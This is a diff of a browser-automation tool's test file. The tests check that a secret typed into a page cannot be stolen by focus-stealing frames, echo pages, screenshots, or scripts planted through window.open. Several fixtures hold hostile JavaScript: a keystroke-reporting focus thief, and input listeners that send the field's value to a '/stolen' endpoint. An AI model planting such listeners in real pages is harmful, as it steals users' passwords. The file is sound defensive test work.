@@ -1,6 +1,7 @@
 // A secret typed by write, attacked as a hostile page would: a frame that steals the focus gets no
 // keystroke of it, an about:blank frame of another origin is refused, an allowed https URL does not
-// open http, scripts around the write give nothing back, and no read brings a piece of it back.
+// open http, a script near the field refuses the write, and after the write (which empties its field
+// before it answers, spec §1.17) no read, key, picture or script brings a piece of it back.
 import { afterAll, beforeAll, describe, expect, test } from "bun:test";
 import { type Fixture, html, serveFixture } from "../support/fixtures.ts";
 import { mcpClient } from "../support/mcp.ts";
@@ -15,9 +16,11 @@ const bodies: string[] = [];
 let server: TestServer;
 let site: Fixture;
 
-// The bound host's login page: the field reports only how long its value is, in the title.
+// The bound host's login page: the field reports only how long its value is, in the title: the most
+// it held, and what it holds now.
 const LOGIN = `<title>Login</title><label>Password <input id=pw type=password></label>
-<script>pw.addEventListener("input", () => { document.title = "len " + pw.value.length; });</script>`;
+<script>let most = 0; pw.addEventListener("input", () => { most = Math.max(most, pw.value.length); document.title = "len " + most + " now " + pw.value.length; });</script>`;
+const TYPED = `len ${PASSWORD.length} now 0`;
 // A focus thief: takes the focus back whenever its window loses it, and reports every key it gets.
 const THIEF = `<input id=steal autofocus><script>
 const grab = () => setTimeout(() => { window.focus(); steal.focus(); }, 0);
@@ -62,16 +65,20 @@ d.getElementById("pw").addEventListener("input", (e) => fetch("/stolen?k=" + enc
       html(`<title>Echo</title><label>Token <input id=tok></label><div id=echo></div><script>
 tok.addEventListener("input", () => { let o = ""; for (let k = 1; k <= tok.value.length; k++) o += tok.value.slice(0, k) + " ";
 echo.textContent = o; document.title = "Echo " + tok.value.slice(0, 6); });</script>`),
-    // A big text field at a known place, black on white.
+    // A big text field at a known place, black on white; the page notes how the field is painted
+    // whenever it holds a value.
     "/big": () =>
       html(`<title>Big</title><style>body { margin: 0; background: #fff; }
-#big { position: absolute; left: 40px; top: 40px; width: 500px; height: 80px; font: 48px monospace; color: #000; background: #fff; border: 0; outline: 0; }
-#note { position: absolute; left: 40px; top: 200px; font: 48px monospace; }</style><input id=big><div id=note>visible</div>`),
-    // A rich editor beside a focus thief: it reports how long its text is.
+#big { position: absolute; left: 40px; top: 40px; width: 500px; height: 80px; font: 48px monospace; color: #000; background: #fff; border: 0; outline: 0; caret-color: transparent; }
+#note { position: absolute; left: 40px; top: 200px; font: 48px monospace; }
+#seen { position: absolute; left: 40px; top: 300px; font: 12px monospace; }</style><input id=big><div id=note>visible</div><p id=seen></p>
+<script>big.addEventListener("input", () => { if (!big.value) return; const cs = getComputedStyle(big);
+seen.textContent += cs.webkitTextSecurity + " " + cs.color + ";"; });</script>`),
+    // A rich editor beside a focus thief: it reports how long its text is (the most, and now).
     "/editor": () =>
       html(`<title>Editor</title><div id=ed contenteditable style="width:300px;height:40px">old</div>
 <iframe src="${site.url("/thief", "ads.example.test")}"></iframe>
-<script>ed.addEventListener("input", () => { document.title = "len " + ed.textContent.length; });</script>`),
+<script>let most = 0; ed.addEventListener("input", () => { most = Math.max(most, ed.textContent.length); document.title = "len " + most + " now " + ed.textContent.length; });</script>`),
     "/opener": () => html(`<title>Opener</title><script>var w = null;</script>`),
     "/stolen": (req) => {
       stolen.push(new URL(req.url).searchParams.get("k") ?? "");
@@ -80,6 +87,7 @@ echo.textContent = o; document.title = "Echo " + tok.value.slice(0, 6); });</scr
   });
   server = await startServer({
     configure: (c) => {
+      c.secrets.hold_ms = 300;
       c.secrets.entries = {
         app: {
           description: "the fixture app's password",
@@ -112,9 +120,10 @@ describe("focus theft", () => {
     const w = await call("/browser/write", {
       selector: { css: "#pw" },
       secret: { name: "app", key: "password" },
+      submit: "auto",
     });
     expect(w.status).toBe(200);
-    expect(w.body.title).toBe(`len ${PASSWORD.length}`);
+    expect(w.body.title).toBe(TYPED);
     await Bun.sleep(300);
     expect(stolen).toEqual([]);
   });
@@ -129,26 +138,29 @@ describe("focus theft", () => {
     const w = await call("/browser/write", {
       selector: { css: "#pw" },
       secret: { name: "app", key: "password" },
+      submit: "auto",
     });
     expect(w.status).toBe(200);
-    expect(w.body.title).toBe(`len ${PASSWORD.length}`);
+    expect(w.body.title).toBe(TYPED);
     await Bun.sleep(300);
     expect(stolen).toEqual([]);
   });
 });
 
-test("a rich editor takes the secret whole, emptied first, with a focus thief beside it", async () => {
+test("a rich editor takes the secret whole, emptied first, with a focus thief beside it; it is empty after", async () => {
   stolen.length = 0;
   expect((await call("/browser/navigate", { url: site.url("/editor") })).status).toBe(200);
   await Bun.sleep(300);
   const w = await call("/browser/write", {
     selector: { css: "#ed" },
     secret: { name: "app", key: "password" },
+    submit: "auto",
   });
-  expect(w.status).toBe(200);
-  expect(w.body.title).toBe(`len ${PASSWORD.length}`);
-  const read = await call("/browser/read");
-  expect(JSON.stringify(read.body)).toContain("[hidden]");
+  expect([w.status, w.body.error]).toEqual([200, undefined]);
+  expect(w.body.title).toBe(TYPED);
+  expect((await call("/browser/extract", { selector: { css: "#ed" } })).body.result).toBe("");
+  const read = JSON.stringify((await call("/browser/read")).body);
+  for (const p of pieces(PASSWORD)) expect(read).not.toContain(p);
   await Bun.sleep(300);
   expect(stolen).toEqual([]);
 });
@@ -162,6 +174,7 @@ describe("where a document is", () => {
     const w = await call("/browser/write", {
       selector: { css: "#pw" },
       secret: { name: "app", key: "password" },
+      submit: "auto",
     });
     expect(w.status).toBe(400);
     expect(w.body.error).toContain("may not be typed on ads.example.test");
@@ -175,6 +188,7 @@ describe("where a document is", () => {
     const w = await call("/browser/write", {
       selector: { css: "#pw" },
       secret: { name: "tls", key: "token" },
+      submit: "auto",
     });
     expect(w.status).toBe(400);
     expect(w.body.error).toContain("may not be typed on app.example.test (http:");
@@ -192,59 +206,95 @@ describe("scripts around the write", () => {
     const w = await call("/browser/write", {
       selector: { css: "#pw" },
       secret: { name: "app", key: "password" },
+      submit: "auto",
     });
     expect(w.status).toBe(400);
     expect(w.body.error).toContain("a script");
     expect((await call("/browser/read")).body.title).toBe("Login");
+    // The page loaded again is a new document: the write goes in, and the copier is gone with the old one.
+    await call("/browser/navigate", { reload: true });
+    const fresh = await call("/browser/write", {
+      selector: { css: "#pw" },
+      secret: { name: "app", key: "password" },
+      submit: "auto",
+    });
+    expect(fresh.status).toBe(200);
+    expect(fresh.body.title).toBe(TYPED);
   });
 
-  test("another tab's window.open reference cannot read the typed field", async () => {
+  test("a tab a script opened (window.open) and planted a listener in is refused, even after its opener left; fresh, it takes the write", async () => {
+    stolen.length = 0;
     expect((await call("/browser/navigate", { url: site.url("/opener") })).status).toBe(200);
     const opened = await call("/browser/script", {
-      script: `w = window.open("${site.url("/login")}"); return true`,
+      script: `w = window.open("${site.url("/login")}");
+w.addEventListener("load", () => w.document.getElementById("pw").addEventListener("input", (e) => fetch("/stolen?k=" + encodeURIComponent(e.target.value))));
+return true`,
     });
     expect(opened.body.result).toBe(true);
     await Bun.sleep(500);
     expect((await call("/browser/switch", { tab: 1 })).status).toBe(200);
-    const w = await call("/browser/write", {
-      selector: { css: "#pw" },
-      secret: { name: "app", key: "password" },
-    });
-    expect(w.status).toBe(200);
+    const write = () =>
+      call("/browser/write", {
+        selector: { css: "#pw" },
+        secret: { name: "app", key: "password" },
+        submit: "auto",
+      });
+    const w = await write();
+    expect(w.status).toBe(400);
+    expect(w.body.error).toContain("a script of yours");
+    expect((await call("/browser/read")).body.title).toBe("Login");
+    // The opener's reference reads the field: it holds nothing.
     expect((await call("/browser/switch", { tab: 0 })).status).toBe(200);
     const read = await call("/browser/script", { script: "w.document.getElementById('pw').value" });
-    expect(read.status).toBe(400);
-    expect(JSON.stringify(read.body)).not.toContain(PASSWORD);
+    expect(read.status).toBe(200);
+    expect(read.body.result).toBe("");
+    // The opener goes to another site: the tab it planted code in still holds that code, and is refused.
+    expect((await call("/browser/navigate", { url: site.url("/opener", "evil.example.test") })).status).toBe(
+      200,
+    );
     await call("/browser/switch", { tab: 1 });
+    const planted = await write();
+    expect(planted.status).toBe(400);
+    expect(planted.body.error).toContain("a script of yours");
+    // Loaded again, it is a new document no script of the agent's reached: the write goes in.
+    await call("/browser/navigate", { reload: true });
+    const fresh = await write();
+    expect(fresh.status).toBe(200);
+    expect(fresh.body.title).toBe(TYPED);
+    await Bun.sleep(300);
+    expect(stolen).toEqual([]);
     await call("/browser/switch", { tab: "close" });
   });
 });
 
 describe("no piece comes back", () => {
-  test("an echoed and then edited secret gives no 4-character piece to any read", async () => {
+  test("a page that echoes every prefix of the field: after the write the echo is empty, and keys edit only what is there", async () => {
     expect((await call("/browser/navigate", { url: site.url("/echo") })).status).toBe(200);
+    // The echo works: plain text comes back as the page shows it.
+    await call("/browser/write", { selector: { css: "#tok" }, text: "abc" });
+    expect((await call("/browser/extract", { selector: { css: "#echo" } })).body.result).toBe("a ab abc");
     const w = await call("/browser/write", {
       selector: { css: "#tok" },
       secret: { name: "app", key: "password" },
+      submit: "auto",
     });
     expect(w.status).toBe(200);
-    expect(w.body.title).toBe("Echo [hidden]");
+    expect(w.body.title).toBe("Echo");
     const read = await call("/browser/read");
     const text = JSON.stringify(read.body);
     for (const p of pieces(PASSWORD)) expect(text).not.toContain(p);
-    expect(read.body.elements.find((e: { name?: string }) => e.name === "Token").value).toBe("[hidden]");
-    // Not edited in place: keys other than Enter or Tab into a typed field are refused.
+    expect(read.body.elements.find((e: { name?: string }) => e.name === "Token").value ?? "").toBe("");
+    // Editing in place is a person's gesture again: it edits what is there, which is nothing of the secret.
     const pressed = await call("/browser/interact/press", {
       selector: { css: "#tok" },
       keys: "ArrowLeft ArrowLeft Z",
     });
-    expect(pressed.status).toBe(400);
-    expect(pressed.body.error).toContain("only Enter or Tab");
+    expect(pressed.status).toBe(200);
     const value = await call("/browser/extract", { selector: { css: "#tok" }, get: "value" });
-    expect(value.body.result).toBe("[hidden]");
+    expect(value.body.result).toBe("Z");
     const echo = await call("/browser/extract", { selector: { css: "#echo" } });
     expect(echo.status).toBe(200);
-    for (const p of pieces(PASSWORD)) expect(echo.body.result).not.toContain(p);
+    expect(echo.body.result).toBe("Z");
   });
 });
 
@@ -264,19 +314,28 @@ describe("pictures", () => {
     return n;
   };
 
-  test("a screenshot of a typed text field shows no text in its box; the rest of the page shows", async () => {
+  const filed = async (shot: { body: { file: { url: string } } }) =>
+    Buffer.from(await (await fetch(`${server.url}${shot.body.file.url}`)).arrayBuffer()).toBase64();
+
+  test("while the value is in, the field is painted without its text; after the write its box shows no text; the rest of the page shows", async () => {
     expect((await call("/browser/navigate", { url: site.url("/big") })).status).toBe(200);
+    // The opposite first: plain text in the same field shows.
+    await call("/browser/write", { selector: { css: "#big" }, text: "plain words" });
+    const plain = await call("/browser/screenshot");
+    expect(plain.status).toBe(200);
+    expect(inked(await filed(plain), { x: 40, y: 40, w: 500, h: 80 })).toBeGreaterThan(50);
     const w = await call("/browser/write", {
       selector: { css: "#big" },
       secret: { name: "app", key: "password" },
+      submit: "auto",
     });
     expect(w.status).toBe(200);
+    // How the page saw its field painted: discs of no colour, then (the write's own text) as it was.
+    const seen = await call("/browser/extract", { selector: { css: "#seen" } });
+    expect(seen.body.result).toBe("none rgb(0, 0, 0);disc rgba(0, 0, 0, 0);");
     const shot = await call("/browser/screenshot");
     expect(shot.status).toBe(200);
-    // The filed picture, as the agent's link would show it.
-    const files = [...new Bun.Glob("**/*.png").scanSync(server.dataDir as string)];
-    expect(files.length).toBe(1);
-    const png = (await Bun.file(`${server.dataDir}/${files[0]}`).bytes()).toBase64();
+    const png = await filed(shot);
     expect(inked(png, { x: 40, y: 40, w: 500, h: 80 })).toBe(0);
     expect(inked(png, { x: 40, y: 200, w: 200, h: 50 })).toBeGreaterThan(50);
     // A PDF of the page shows the rest of it, and nothing of the value.
